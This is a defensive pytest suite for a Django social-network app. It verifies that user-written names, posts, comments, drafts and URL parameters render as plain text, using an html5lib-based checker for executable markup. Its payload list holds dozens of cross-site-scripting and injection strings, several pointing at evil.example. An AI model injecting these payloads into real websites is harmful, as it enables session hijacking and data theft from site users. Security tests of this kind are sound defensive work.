"""What people write is text everywhere: hostile titles, texts, names and group names in every page that shows them."""

import html5lib
import pytest

from network.feed.actions import Words, edit_post, publish_post

pytestmark = [pytest.mark.django_db, pytest.mark.wide]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](https://evil.example/track.png)",
    '![x](x"onerror="alert(1))',
    '<https://a.example/"onclick=alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onclick=alert(1)\nx\n```',
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    '@ann"onclick=alert(1)',
    '#is"onclick=alert(1)',
    "#<script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=csrfmiddlewaretoken>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7|add:7 }}{% csrf_token %}",
    "\u202eevil\u202c <b onmouseover=alert(1)>",
    'data-reaction="1:glow" aria-pressed="false" value="1"',
]


def runs(tag, name, value):
    """An attribute that could run or fetch what a person wrote."""
    address = "".join(value.split()).lower()
    if name.lower().startswith("on") or name in {"style", "srcdoc"}:
        return True
    if name == "src" or (tag == "form" and name == "action"):
        return not address.startswith("/")
    addresses = {"href", "action", "formaction"}
    return name in addresses and address.startswith(("javascript:", "data:", "vbscript:"))


def dangers(text):
    """Everything in a page that could run or fetch what a person wrote."""
    found = []
    tree = html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        tag, given = str(element.tag), element.attrib
        found += [(tag, name, value) for name, value in given.items() if runs(tag, name, value)]
        inline = tag == "script" and given.get("type") != "application/json" and not given.get("src")
        if inline or tag in {"iframe", "object", "embed", "base", "style"}:
            found.append((tag, element.text, ""))
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_is_only_text_wherever_it_is_shown(payload, client_of, ann, ben, open_group, comment_of):
    ann.name = payload.replace("\n", " ")[:100]
    ann.title = payload.replace("\n", " ")[:100]
    ann.save()
    open_group.name = payload.replace("\n", " ")[:80]
    open_group.save()
    post = publish_post(author=ann, group=open_group, words=Words(text=f"{payload} #is", title=payload[:140]))
    comment = comment_of(ann, post, payload)
    edit_post(by=ann, post=post, words=Words(text=f"{payload} igjen #is", title=payload[:130]))
    client = client_of(ben)
    for address in (
        "/", f"/posts/{post.pk}/", f"/posts/{post.pk}/history/", f"/posts/{post.pk}/?reply={comment.pk}",
        "/people/ann/posts/", "/groups/feltprat/posts/", "/topics/is/", f"/comments/{comment.pk}/history/",
    ):  # fmt: skip
        answer = client.get(address)
        assert answer.status_code == 200
        assert dangers(answer.content.decode()) == [], address
    assert "script-src 'self'" in answer["Content-Security-Policy"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_preview_the_draft_and_the_faulty_form_show_it_as_text_too(payload, client_of, ann):
    client = client_of(ann)
    form = {"text": payload, "title": payload[:140], "kind": "update", "place": ""}
    for given in ({"do": "preview"}, {"do": "publish", "title": payload + "x" * 141}):
        assert dangers(client.post("/posts/new/", form | given).content.decode()) == []
    client.post("/posts/draft/", form)
    assert dangers(client.get("/posts/new/").content.decode()) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_address_is_only_text(payload, client_of, ann):
    client = client_of(ann)
    for name in ("lane", "before"):
        assert dangers(client.get("/", {name: payload}).content.decode()) == []
    answer = client.get("/posts/new/", {"text": payload, "kind": payload, "group": payload})
    assert dangers(answer.content.decode()) == []


def test_words_that_look_like_a_button_of_ours_are_never_pressed(client_of, ann, ben, post_of):
    from network.conversations.actions import set_reaction
    from network.conversations.models import Emotion

    post = post_of(ann)
    words = f'data-reaction="{post.pk}:glow" aria-pressed="false" value="1"'
    post_of(ann, None, f"{words} `{words}`", title=words)
    set_reaction(by=ben, thread=post.thread, emotion=Emotion.GLOW, on=True)
    text = client_of(ben).get("/").content.decode()
    assert text.count(f'data-reaction="{post.pk}:glow" aria-pressed="true"') == 2
